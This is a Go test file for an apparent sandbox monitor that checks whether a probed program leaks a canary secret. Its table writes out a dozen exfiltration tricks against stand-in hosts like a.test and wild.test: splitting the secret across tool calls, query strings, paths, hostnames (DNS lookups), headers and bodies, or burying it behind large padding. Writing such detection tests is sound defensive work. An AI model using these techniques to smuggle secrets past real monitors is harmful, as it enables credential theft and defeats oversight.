package adversarial_test

import (
	"context"
	"encoding/json"
	"errors"
	"net/http"
	"strings"
	"time"

	. "github.com/onsi/ginkgo/v2"
	. "github.com/onsi/gomega"

	"github.com/isoproof/isoproof/adversarial"
	"github.com/isoproof/isoproof/executor"
	"github.com/isoproof/isoproof/harness/suite"
)

// doors are what a program can say through its tools and its way out, of a secret.
type doors struct {
	call func(provider, tool string, arguments any)
	ask  func(method, url string, header http.Header, body string)
}

// out is a way to bring a secret out by the doors, and where it is found.
type out struct {
	what  string
	bring func(d doors, secret string)
	place string
}

var outs = []out{
	{"half of it in each of two calls", func(d doors, s string) {
		d.call("x", "y", map[string]string{"first": s[:13]})
		d.call("x", "y", map[string]string{"second": s[13:]})
	}, "tool call"},
	{"behind 64 KiB of a call's arguments", func(d doors, s string) { d.call("x", "y", strings.Repeat("-x", 64<<10)+s) }, "tool call"},
	{"two letters a call, with a name for them", func(d doors, s string) {
		for i := 0; i < len(s); i += 2 {
			d.call("x", "y", map[string]any{"part": s[i : i+2]})
		}
	}, "tool call's values"},
	{"as the names of tools, two letters each", func(d doors, s string) {
		for i := 0; i < len(s); i += 2 {
			d.call(s[i:i+1], s[i+1:i+2], nil)
		}
	}, "tool's name"},
	{"as a name in a call's arguments", func(d doors, s string) { d.call("x", "y", map[string]int{s: 1}) }, "tool call"},
	{"half of it in each of two requests", func(d doors, s string) {
		d.ask("GET", "https://a.test/?first="+s[:13], nil, "")
		d.ask("GET", "https://a.test/?second="+s[13:], nil, "")
	}, "outbound request"},
	{"two letters a query", func(d doors, s string) {
		for i := 0; i < len(s); i += 2 {
			d.ask("GET", "https://a.test/?part="+s[i:i+2], nil, "")
		}
	}, "outbound request's query"},
	{"two letters a path", func(d doors, s string) {
		for i := 0; i < len(s); i += 2 {
			d.ask("GET", "https://a.test/"+s[i:i+2], nil, "")
		}
	}, "outbound request's path"},
	{"two letters a host", func(d doors, s string) {
		for i := 0; i < len(s); i += 2 {
			d.ask("GET", "https://"+s[i:i+2]+"/index.html", nil, "")
		}
	}, "outbound request's host"},
	{"two letters a header", func(d doors, s string) {
		for i := 0; i < len(s); i += 2 {
			d.ask("GET", "https://a.test/", http.Header{"X-Part": {s[i : i+2]}}, "")
		}
	}, "outbound request's headers"},
	{"two letters a body", func(d doors, s string) {
		for i := 0; i < len(s); i += 2 {
			d.ask("POST", "https://a.test/", nil, s[i:i+2])
		}
	}, "outbound request's body"},
	{"behind a megabyte of a body", func(d doors, s string) { d.ask("POST", "https://a.test/", nil, strings.Repeat("-x", 1<<20)+s) }, "outbound request's body"},
}

var _ = Describe("A stand's doors", func() {
	DescribeTable("find a secret that comes out", func(ctx SpecContext, o out) {
		stand := scripted(ctx, subject(func(ctx context.Context, p executor.Program) executor.Result {
			if p.Outbound != nil {
				o.bring(through(ctx, p))
			}
			return returns([]string{})
		}))
		r, err := stand.Probe(ctx, stranger("return 1"))
		Expect(err).NotTo(HaveOccurred())
		Expect(r.Evidence.Finds).To(Equal([]adversarial.Find{{Canary: "a secret of its tools", Place: o.place, How: "as it is"}}))
	}, suite.Entries("outs", outs, func(o out) TableEntry { return Entry(o.what, o) }))

	It("write down which names are looked up", func(ctx SpecContext) {
		stand := scripted(ctx, subject(func(ctx context.Context, p executor.Program) executor.Result {
			if p.Outbound != nil {
				d, secret := through(ctx, p)
				d.ask("GET", "http://"+secret+".wild.test/", nil, "")
				d.ask("GET", "http://"+secret+".other.test/", nil, "")
			}
			return returns([]string{})
		}))
		e := stranger("return 1")
		e.Setting = adversarial.Direct
		r, err := stand.Probe(ctx, e)
		Expect(err).NotTo(HaveOccurred())
		Expect(rulesOf(r)).To(Equal([]string{"canary"}))
		Expect(r.Evidence.Way.Looked).To(HaveExactElements(HaveSuffix(".wild.test")), "the policy refuses the other one before it is looked up")
	}, SpecTimeout(time.Minute))

	It("report a shortened call, and search the whole of it", func(ctx SpecContext) {
		stand := newStand(ctx, adversarial.PoolOptions())
		r, err := stand.Probe(ctx, stranger("await tools.echo.it('x'.repeat(1e5)); return 1"))
		Expect(err).NotTo(HaveOccurred())
		Expect(r.Evidence.Calls).To(Equal([]adversarial.Call{{Provider: "echo", Tool: "it", Arguments: json.RawMessage(`"100002 bytes"`)}}))
	}, SpecTimeout(time.Minute))
})

// through are the doors of a program, and a secret behind them.
func through(ctx context.Context, p executor.Program) (doors, string) {
	_, err := p.Tools(ctx, executor.ToolCall{Provider: "canary", Tool: "get"})
	return doors{
		call: func(provider, tool string, arguments any) {
			text, err := json.Marshal(arguments)
			Expect(err).NotTo(HaveOccurred())
			_, _ = p.Tools(ctx, executor.ToolCall{Provider: provider, Tool: tool, Args: text}) // whatever it answers
		},
		ask: func(method, url string, header http.Header, body string) {
			r, err := http.NewRequestWithContext(ctx, method, url, strings.NewReader(body))
			Expect(err).NotTo(HaveOccurred())
			for name, values := range header {
				r.Header[name] = values
			}
			if answer, err := p.Outbound.RoundTrip(r); err == nil {
				Expect(answer.Body.Close()).To(Succeed())
			}
		},
	}, errors.Unwrap(err).Error()
}
